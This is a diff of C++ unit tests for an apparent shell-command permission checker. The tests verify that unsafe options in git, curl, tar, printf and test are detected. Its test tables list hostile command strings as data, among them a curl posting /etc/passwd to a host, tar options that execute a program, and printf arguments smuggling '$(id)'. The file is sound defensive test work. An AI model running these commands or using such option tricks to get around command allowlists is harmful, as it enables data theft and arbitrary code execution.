@@ -148,7 +148,6 @@ TEST(ShellCover, P2_unsafe_options_are_found_in_every_spelling) {
         {"git ls-remote runs", {{"git"}, {"ls-remote"}}, "git ls-remote -u ./x ."},
         {"git push runs", {{"git"}, {"push"}}, "git push --receive-pack=./x"},
         {"git rebase runs", {{"git"}, {"rebase"}}, "git rebase -x id main"},
-        {"git clone sets", {{"git"}, {"clone"}}, "git clone -c core.fsmonitor=x y"},
         {"git archive writes", {{"git"}, {"archive"}}, "git archive -o x HEAD"},
         {"git format-patch writes", {{"git"}, {"format-patch"}}, "git format-patch -ox HEAD"},
         {"curl writes", {{"curl"}}, "curl -o x https://a.example"},
@@ -157,6 +156,12 @@ TEST(ShellCover, P2_unsafe_options_are_found_in_every_spelling) {
         {"curl reads settings", {{"curl"}}, "curl -K x"},
         {"curl uploads", {{"curl"}}, "curl -T x https://a.example"},
         {"curl posts a file", {{"curl"}}, "curl -d @/etc/passwd https://a.example"},
+        {"tar unpacks", {{"tar"}}, "tar -xf x"},
+        {"tar unpacks without a dash", {{"tar"}}, "tar xf x"},
+        {"tar packs in a cluster", {{"tar"}}, "tar -zcf x y"},
+        {"tar runs", {{"tar"}}, "tar -tf x --to-command=./x"},
+        {"tar runs, abbreviated", {{"tar"}}, "tar -tf x --checkpoint-act=exec=./x"},
+        {"tar asks a host", {{"tar"}}, "tar -tf host:x"},
         {"printf assigns", {{"printf"}}, "printf -v 'a[$(id)]' x"},
         {"printf assigns, fused", {{"printf"}}, "printf '-va[$(id)]' x"},
         {"test evaluates", {{"test"}}, "test -v 'a[$(id)]'"},
@@ -202,6 +207,8 @@ TEST(ShellCover, P2_harmless_options_stay_covered) {
         {{{"git"}, {"log"}}, "git log --oneline --graph --format=%h -n 5 -- README.md"},
         {{{"git"}, {"diff"}}, "git diff --stat HEAD -O x"},
         {{{"git"}, {"grep"}}, "git grep -n -eO x"},
+        {{{"tar"}}, "tar -tf x.tar"},
+        {{{"tar"}}, "tar tvf x.tar.gz"},
         {{{"curl"}}, "curl -sSfL -H 'Accept: text/plain' https://a.example/x"},
         {{{"printf"}}, "printf '%s\\n' x"},
         {{{"test"}}, "test -f README.md"},
@@ -235,7 +242,11 @@ TEST(ShellCover, P2_subcommands_must_be_named) {
     EXPECT_EQ(gap({{{"git"}, {"bundle"}}}, "git bundle create x HEAD"), Gap::subcommand);
     EXPECT_EQ(gap({{{"npm"}, {"exec"}}}, "npm exec x"), Gap::subcommand);
     EXPECT_EQ(gap({{{"docker"}, {"run"}}}, "docker run x"), Gap::subcommand);
+    EXPECT_EQ(gap({{{"git"}, {"clone"}}}, "git clone x y"), Gap::subcommand);
     EXPECT_EQ(gap({{{"git"}, {"-C"}}}, "git -C x"), Gap::subcommand);
+    EXPECT_TRUE(
+        covers({{{"git"}, {"config"}, {"--get"}, {"user.name"}}}, "git config --get user.name"));
+    EXPECT_FALSE(covers({{{"git"}, {"config"}, {"--get"}}}, "git config --get x"));
 }
 
 TEST(ShellCover, the_loader_refuses_patterns_that_cannot_work) {
